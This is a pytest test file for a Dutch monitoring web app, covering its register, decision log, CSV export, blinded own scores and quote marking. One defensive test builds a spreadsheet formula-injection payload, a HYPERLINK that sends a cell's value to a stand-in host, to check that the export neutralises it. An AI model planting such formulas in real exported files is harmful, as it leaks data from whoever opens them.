"""The register, the log of decisions, own scores, trends and the quotes in their texts."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta

import pytest
from sqlalchemy import text

from monitor.bootstrap import bootstrap
from monitor.errors import StoreError
from monitor.model import Document, Evidence, Relation, Span
from monitor.pipeline import auditing, deciding, listing, quoting, registering, undoing
from monitor.pipeline.monitor import Monitor
from monitor.review import measures
from monitor.settings import Settings
from monitor.web.chart import chart

EVERYWHERE = (
    "/", "/?q=instap", "/proposals/1", "/register", "/register/4", "/trend", "/decisions", "/decisions.csv", "/runs",
    "/runs/1", "/sources", "/aside", "/feed.atom", "/api/v1/proposals", "/api/v1/sources",
)  # fmt: skip


def test_retiring_and_reinstating_keep_every_revision(browser, monitor: Monitor) -> None:
    browser.post("/register/4/retire", reason="achterhaald")
    assert 4 not in [view["number"] for view in listing.development_views(monitor)]
    page = browser.get("/register/4")
    assert "achterhaald" in page
    assert "buiten gebruik" in page
    browser.post("/register/4/retire", 409, reason="nog eens")
    browser.post("/register/4/reinstate", 422, reason=" ")
    browser.post("/register/4/reinstate", reason="toch weer actueel")
    assert listing.development_views(monitor)[3]["revision"] == 3


def test_what_had_no_evidence_for_long_is_said(browser, monitor: Monitor) -> None:
    page = browser.get("/register")
    assert page.count("laatst bevestigd 9 maart 2026") == 3  # what speaks against one does not confirm it
    assert "geen nieuw bewijs." not in page
    now = monitor.clock()
    monitor.clock = lambda: now + timedelta(weeks=30)
    page = browser.get("/register")
    assert "9 ontwikkelingen hebben al een half jaar of langer geen nieuw bewijs." in page
    assert page.count("al 30 weken geen bewijs") == 9
    browser.post("/register/4/retire", reason="achterhaald")
    assert browser.get("/register?quiet=1").count("data-row") == 8


def test_two_revisions_are_compared_word_by_word(browser) -> None:
    browser.decide(3, "approve", title="Nieuwe titel", body="Een heel andere tekst.", score="60")
    page = browser.get("/register/2?before=1&after=2")
    assert "<ins>" in page
    assert "<del>" in page
    assert "voorstel 3" in page


def test_the_log_shows_and_exports_every_decision(browser, monitor: Monitor) -> None:
    browser.decide(1, "reject", reason="=HYPERLINK(1)")
    browser.decide(3, "edit", title="Andere titel", body="Andere tekst.")
    page = browser.get("/decisions")
    assert "Anna de Wit" in page
    assert "<del>" in page
    assert "0.1.0+test" in page
    rows = list(csv.DictReader(io.StringIO(browser.client.get("/decisions.csv").text)))
    assert [(row["action"], row["proposal"], row["title"]) for row in rows] == [
        ("reject", "1", ""),
        ("edit", "3", "Andere titel"),
    ]
    assert rows[0]["reason"] == "'=HYPERLINK(1)"
    assert (rows[0]["model"], rows[0]["settings"]) == ("test-model", "0.1.0+test")
    assert rows[1]["body_before"].startswith("Een UK-overheidsrapport")
    assert rows[1]["body"] == "Andere tekst."


def test_the_log_holds_what_was_decided_about_the_register_itself(browser) -> None:
    browser.decide(1, "reject", reason="dubbel")
    browser.post("/register/4/retire", reason="achterhaald")
    assert "achterhaald" in browser.get("/decisions")
    rows = list(csv.DictReader(io.StringIO(browser.client.get("/decisions.csv").text)))
    assert [(row["id"], row["action"], row["development"], row["reason"]) for row in rows] == [
        ("1", "reject", "", "dubbel"),
        ("r1", "retire", "4", "achterhaald"),
    ]


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
def test_what_a_spreadsheet_would_run_is_text_in_the_file_of_decisions(browser, begins: str) -> None:
    """The reason of a person, or a title of a source: a spreadsheet takes such a cell for a formula."""
    from monitor.pipeline.accounting import cells, decision_views

    browser.decide(1, "reject", reason="dubbel")
    (view,) = decision_views(browser.client.app.state.site.monitor)
    formula = f'{begins}HYPERLINK("https://elders.example/?"&A1)'
    assert formula not in cells({**view, "title_before": formula, "reason": formula})
    assert cells({**view, "reason": formula}).count(f"'{formula}") == 1


def test_no_decision_about_the_register_is_changed_afterwards(elsewhere: Monitor) -> None:
    auditing.set_retired(elsewhere, 4, retired=True, by="Anna", reason="achterhaald")
    for statement in ("UPDATE register_decision SET reason = 'x'", "DELETE FROM register_decision"):
        with pytest.raises(StoreError, match="append-only"), elsewhere.database.write() as connection:
            connection.execute(text(statement))


def test_an_own_score_is_asked_first_and_kept(browser, monitor: Monitor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(auditing, "asks_first", lambda identity: identity == 1)
    computed = deciding.get(monitor, 1).validity.score
    page = browser.get("/proposals/1")
    assert "eerst uw eigen oordeel" in page
    assert 'class="sum"' not in page
    assert "eerst uw oordeel" in browser.get("/")
    assert 'class="sum"' in browser.get("/proposals/1?show=1")
    browser.post("/proposals/1/own-score", 409, score="101")
    assert 'class="sum"' in browser.post("/proposals/1/own-score", score="64")
    browser.post("/proposals/1/own-score", score="99")  # a second thought does not count
    figures = auditing.audit_page(monitor).measures
    assert (figures.judged, figures.from_computed) == (1, abs((computed or 0) - 64))
    assert measures.BLIND_ONE_IN > 1


def test_the_chart_ends_where_the_score_is(monitor: Monitor) -> None:
    for view in listing.proposal_views(monitor):
        bars = chart(deciding.get(monitor, view["id"]).validity)
        assert bars[-1].after == view["validity"]["score"]
        assert all(bar.start >= 0 and bar.start + bar.width <= 100 for bar in bars)
        assert all(bar.width == abs(bar.points) for bar in bars)


def test_quotes_stand_marked_where_the_text_has_them() -> None:
    words = "A" * 400 + " Eerste zin. Daarna. Tweede zin. " + "b " * 400 + "Derde zin."
    document = Document("https://x.example", "T", words, "h", "s")
    spans = [words.index(one) for one in ("Eerste zin.", "Tweede zin.", "Derde zin.")]
    lengths = [len("Eerste zin."), len("Tweede zin."), len("Derde zin.")]
    evidence = tuple(
        Evidence(1, "https://x.example", "S", Span("h", at, at + n, words[at : at + n]), Relation.EXTENDS)
        for at, n in zip(spans, lengths, strict=True)
    )
    (group,) = quoting.quoted(evidence, {"h": document})
    marked = {part.quoted: part.text for part in group.parts if part.quoted is not None}
    assert marked == {1: "Eerste zin.", 2: "Tweede zin.", 3: "Derde zin."}
    shown = "".join(part.text for part in group.parts)
    assert "Eerste zin. Daarna. Tweede zin." in shown
    assert shown.count("…") == 2
    (lost,) = quoting.quoted(evidence, {})
    assert [part.text for part in lost.parts if part.quoted] == ["Eerste zin.", "Tweede zin.", "Derde zin."]


@pytest.fixture
def elsewhere(database_url: str, tmp_path, filled_week) -> Iterator[Monitor]:
    """The same week on each of the two databases."""
    made = bootstrap(Settings(outputs=tmp_path, database_url=database_url, reviewer="Anna"), create=True)
    registering.load_shipped(made)
    filled_week(made)
    yield made
    made.close()


def test_every_page_and_decision_on_both_databases(elsewhere: Monitor, browser_on) -> None:
    browser = browser_on(elsewhere)
    browser.decide(1, "split", items=str(deciding.get(elsewhere, 1).items[0]))
    kept = deciding.history(elsewhere, 1)[-1].decision.id
    assert kept is not None
    undoing.undo(elsewhere, kept, by="Anna")
    browser.post("/register/4/retire", reason="achterhaald")
    auditing.give_own_score(elsewhere, 1, by="Anna", score=70)
    for path in EVERYWHERE:
        browser.get(path)
